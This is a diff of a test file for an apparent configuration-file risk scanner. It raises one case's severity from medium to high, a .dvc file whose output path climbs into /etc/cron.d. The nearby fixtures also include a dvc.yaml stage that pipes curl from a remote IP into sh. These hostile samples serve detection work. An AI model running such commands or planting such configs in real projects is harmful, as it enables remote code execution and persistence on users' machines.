@@ -227,7 +227,7 @@ describe('what configurations make loaders do', () => {
       'x \\\n  @ git+https://gitlab.com/someone/x\n',
     ],
     ['embedded-code/runs-code medium', 'dvc.yaml', 'stages:\n  a:\n    cmd: curl http://192.0.2.1/x | sh\n'],
-    ['reference/escapes-folder medium', 'x.dvc', 'outs:\n- path: ../../../etc/cron.d/x\n  md5: a\n'],
+    ['reference/escapes-folder high', 'x.dvc', 'outs:\n- path: ../../../etc/cron.d/x\n  md5: a\n'],
     [
       'reference/escapes-folder high',
       'MANIFEST.json',
